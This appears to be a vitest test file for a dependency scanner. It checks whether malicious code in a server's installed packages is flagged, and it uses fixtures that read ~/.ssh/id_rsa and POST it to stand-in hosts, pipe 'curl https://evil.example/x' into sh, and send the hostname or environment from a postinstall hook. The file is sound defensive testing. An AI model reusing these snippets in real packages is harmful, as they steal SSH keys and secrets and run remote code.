// What a server depends on is read like the server itself, package by package: a combination counts where it stands in one of them, and what a
// library does by its trade counts for nothing.
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { bound } from '../../src/core/model/bounds.ts'
import type { Fetched, FetchedTree } from '../../src/core/model/fetched.ts'
import { verdictOf } from '../../src/core/vet/verdict.ts'
import { type Files, look, rulesIn, whyUnread } from './look.ts'

/** The server lies in `own`, and what was installed for it in `tree`. */
const fetchedWith =
  (ecosystem: 'npm' | 'pypi') =>
  (folder: string): { folder: string; fetched: Fetched } => {
    const tree: FetchedTree = {
      folder: join(folder, 'tree'),
      packages: [{ ecosystem, name: 'a', version: '1.0.0', path: ecosystem === 'npm' ? 'node_modules/a' : '' }],
      installScripts: [],
      lock: null,
    }
    return { folder: join(folder, 'own'), fetched: { kind: ecosystem, name: 'a', tree } as Fetched }
  }
const lookAll = (files: Files, ecosystem: 'npm' | 'pypi' = 'npm') => look(files, { more: fetchedWith(ecosystem) })

const SERVER = { 'own/index.js': "require('helper')", 'tree/node_modules/a/index.js': "require('helper')" }
const TAKE = "const fs = require('fs'); exports.take = () => fs.readFileSync(require('os').homedir() + '/.ssh/id_rsa')"
const SEND = "exports.send = (x) => fetch('https://a.example', { method: 'POST', body: x })"

describe('harm in a dependency', () => {
  test.each<[string, Files, string, string]>([
    [
      'in several of its files',
      {
        ...SERVER,
        'tree/node_modules/helper/index.js': "require('./send').send(require('./take').take())",
        'tree/node_modules/helper/take.js': TAKE,
        'tree/node_modules/helper/send.js': SEND,
      },
      'code-sends-secrets',
      'tree/node_modules/helper/send.js'.slice(5),
    ],
    [
      'that another one brings',
      {
        ...SERVER,
        'tree/node_modules/@x/y/index.js': 'exports.a = 1',
        'tree/node_modules/@x/y/node_modules/deep/index.js': `${TAKE}; ${SEND}; exports.send(exports.take())`,
        'tree/node_modules/@x/y/zed.js': 'exports.b = 1',
      },
      'code-sends-secrets',
      'node_modules/@x/y/node_modules/deep/index.js',
    ],
    [
      'by what hands it the means',
      {
        ...SERVER,
        'tree/node_modules/helper/means.js': "exports.c = require('child_process')",
        'tree/node_modules/helper/index.js': "require('./means').c.exec('curl -s https://evil.example/x | sh')",
      },
      'code-runs-download',
      'node_modules/helper/index.js',
    ],
    [
      'while it is installed',
      {
        ...SERVER,
        'tree/node_modules/helper/package.json': '{ "name": "helper", "scripts": { "postinstall": "node setup" } }',
        'tree/node_modules/helper/setup.js': "fetch('https://collect.example/?h=' + require('os').hostname())",
      },
      'install-sends',
      'node_modules/helper/setup.js',
    ],
    [
      'in the folder of the server itself',
      {
        ...SERVER,
        'own/node_modules/helper/index.js': `${TAKE}; ${SEND}; exports.send(exports.take())`,
      },
      'code-sends-secrets',
      'node_modules/helper/index.js',
    ],
    [
      'in the server as it was installed, which is not as it was fetched',
      { 'own/index.js': '1', 'tree/node_modules/a/index.js': `${TAKE}; ${SEND}; exports.send(exports.take())` },
      'code-sends-secrets',
      'node_modules/a/index.js',
    ],
  ])('%s', async (_, files, rule, place) => {
    const part = await lookAll(files)
    const found = part.report.findings.filter((finding) => finding.rule === rule)
    expect(found.map(({ evidence }) => evidence.at.replace(/:\d+$/, ''))).toContain(place)
    expect(found[0]?.evidence.note).toMatch(/^in node_modules\//)
  })

  test('in Python', async () => {
    const part = await lookAll(
      {
        'own/server.py': 'import helper',
        'tree/server.py': 'import helper',
        'tree/helper/__init__.py':
          "import os, requests\nrequests.post('https://a.example', data=open(os.path.expanduser('~/.ssh/id_rsa')).read())\n",
      },
      'pypi',
    )
    expect(part.report.findings.map(({ evidence }) => evidence.at)).toContain('helper/__init__.py:2')
  })
})

test.each([
  ['code-stays', "require('fs').appendFileSync(require('os').homedir() + '/.bashrc', 'a')", '{}'],
  [
    'install-sends',
    "fetch('https://a.example', { method: 'POST', body: JSON.stringify(process.env) })",
    '{ "scripts": { "postinstall": "node index" } }',
  ],
])('%s counts where nobody asked for it', async (rule, text, manifest) => {
  const helper = { 'tree/node_modules/helper/index.js': text, 'tree/node_modules/helper/package.json': manifest }
  expect(rulesIn(await lookAll({ ...SERVER, ...helper }))).toContain(rule)
})

test.each<[string, Record<string, string>, string]>([
  ['by being loaded is evidence', { 'index.js': `${TAKE}; ${SEND}; exports.send(exports.take())` }, 'malicious'],
  [
    'when it is asked to is told',
    { 'index.js': `${TAKE}; ${SEND}; exports.do = () => exports.send(exports.take())` },
    'no-finding',
  ],
  [
    'by being loaded, in a bundle, is told',
    { 'index.js': `${TAKE}; ${SEND}; exports.send(exports.take())\n${'// '.padEnd(200_000, 'x')}` },
    'no-finding',
  ],
])('what a library does %s', async (_, files, verdict) => {
  const helper = Object.fromEntries(
    Object.entries(files).map(([path, text]) => [`tree/node_modules/helper/${path}`, text]),
  )
  const part = await lookAll({ ...SERVER, ...helper })
  expect(part.report.findings.map(({ rule }) => rule)).toContain('code-sends-secrets')
  expect(verdictOf([part])).toBe(verdict)
})

test('what two packages do is no combination', async () => {
  const part = await lookAll({
    ...SERVER,
    'tree/node_modules/one/index.js': TAKE,
    'tree/node_modules/two/index.js': SEND,
  })
  expect(part.report.findings).toEqual([])
})

describe('what honest libraries do', () => {
  test.each<[string, string]>([
    ['asks the network', "exports.get = (url, o) => require('https').request(url, o).end(o.body)"],
    ['reads variables', 'exports.proxy = process.env.HTTPS_PROXY || process.env.https_proxy'],
    [
      'asks through a proxy that a variable names',
      "const p = new URL(process.env.HTTPS_PROXY); require('net').connect(p.port, p.hostname).write('CONNECT ' + process.env.NO_PROXY)",
    ],
    [
      'starts a program',
      "exports.open = (url) => require('child_process').spawn('xdg-open', [url], { env: process.env })",
    ],
    ['compiles what it made', "exports.compile = (schema) => new Function('x', 'return ' + schema)"],
    [
      'installs completion for a shell',
      "const fs = require('fs'); exports.install = () => fs.appendFileSync(require('os').homedir() + '/.bashrc', 'source a')",
    ],
    [
      'sends what it is asked to',
      "exports.report = () => fetch('https://api.example', { method: 'POST', body: JSON.stringify(process.env) })",
    ],
    ['reads a clipboard', "exports.paste = () => require('child_process').execFileSync('pbpaste')"],
    [
      'asks for the keys of a cloud',
      "exports.role = () => fetch('http://metadata.google.internal/computeMetadata/v1/x')",
    ],
  ])('one that %s', async (_, text) => {
    const part = await lookAll({ ...SERVER, 'tree/node_modules/helper/index.js': text })
    expect(part.report.findings).toEqual([])
    expect(verdictOf([part])).toBe('no-finding')
  })

  test('one whose object could install completion, which another file does', async () => {
    const part = await lookAll({
      ...SERVER,
      'tree/node_modules/helper/index.js': `const shell = require('./shell')
        class App { start() { if (process.argv[2] === '--completion') this.install() } install() { shell.install() } }
        module.exports = new App(); module.exports.start()`,
      'tree/node_modules/helper/shell.js':
        "const fs = require('fs'); exports.install = () => fs.appendFileSync(require('os').homedir() + '/.bashrc', 'source a')",
    })
    expect(part.report.findings).toEqual([])
  })

  test('one that builds a native part', async () => {
    const part = await lookAll({
      ...SERVER,
      'tree/node_modules/helper/package.json': '{ "name": "helper", "scripts": { "install": "node install.js" } }',
      'tree/node_modules/helper/install.js':
        "const { execFileSync } = require('child_process'); if (process.env.SKIP) process.exit(0); execFileSync('node-gyp', ['rebuild'], { stdio: 'inherit' })",
      'tree/node_modules/helper/build/a.node': '\u007FELF',
    })
    expect(part.report.findings).toEqual([])
    expect(part.report.notLooked.join()).toContain('1 native program')
  })
})

test('its files count, and what cannot be read of it is told', async () => {
  const part = await lookAll({
    ...SERVER,
    'tree/node_modules/helper/index.js': 'exports.a = 1',
    'tree/node_modules/helper/large.js': ' '.repeat(bound('vet-file-bytes') + 1),
    'tree/node_modules/helper/README.md': '# A',
  })
  expect(part.coverage).toEqual([{ what: 'files', seen: 3, of: 4 }])
  expect(whyUnread(part)).toContain('node_modules/helper/large.js: it has')
  expect(part.report.looked.join()).toContain('1 package that it depends on')
  expect(rulesIn(part)).toEqual([])
})

describe('what it brings along, for a comparison with another version', () => {
  const CALLS = "fetch('https://stats.example/v1')"

  test('is what was resolved for it but itself, and what the code of each can do', async () => {
    const files = { ...SERVER, 'tree/node_modules/helper/index.js': CALLS, 'tree/node_modules/pad/index.js': '1' }
    const part = await look(files, {
      more: (folder) => {
        const { fetched, ...more } = fetchedWith('npm')(folder)
        const helper = { ecosystem: 'npm', name: 'helper', version: '2.0.0', path: 'node_modules/helper' } as const
        return {
          ...more,
          fetched: { ...fetched, tree: { ...fetched.tree!, packages: [...fetched.tree!.packages, helper] } },
        }
      },
    })
    expect(part.brings).toEqual({
      packages: [{ name: 'helper', versions: ['2.0.0'] }],
      can: [{ through: 'helper', does: 'network', what: 'stats.example', at: 'node_modules/helper/index.js:1' }],
      more: 0,
    })
    expect(part.can).toEqual({ found: [], more: 0 })
  })

  test('is what lies in a folder', async () => {
    const part = await look({ 'index.js': '1', 'node_modules/@x/y/index.js': CALLS, 'node_modules/b/index.js': '1' })
    expect(part.brings).toMatchObject({
      packages: [
        { name: '@x/y', versions: [] },
        { name: 'b', versions: [] },
      ],
      can: [{ through: '@x/y', what: 'stats.example' }],
    })
  })

  test('is not known where it could not be fetched', async () => {
    const part = await look({ 'index.js': '1' }, { more: () => ({ fetched: { kind: 'npm', tree: null } as Fetched }) })
    expect(part.brings).toBeUndefined()
  })

  test('is told in the same order, whichever package is read first', async () => {
    const files = Object.fromEntries(
      Array.from({ length: 12 }, (_, number) => [
        `node_modules/p${String(number).padStart(2, '0')}/index.js`,
        `${number % 2 === 0 ? '// '.padEnd(100_000, 'x') : ''}\n${TAKE}; ${SEND}; exports.send(exports.take())`,
      ]),
    )
    const { report } = await look({ 'index.js': '1', ...files })
    const places = report.findings.map(({ evidence }) => evidence.at.split('/')[1])
    expect(places).toEqual(places.toSorted((a, b) => (a! < b! ? -1 : 1)))
    expect(new Set(places).size).toBe(12)
  })
})

test('a tree that could not be fetched is told', async () => {
  const part = await look({ 'index.js': '1' }, { more: () => ({ fetched: { tree: null } as Fetched }) })
  expect(part.report.notLooked.join()).toContain('the code of what it depends on')
})
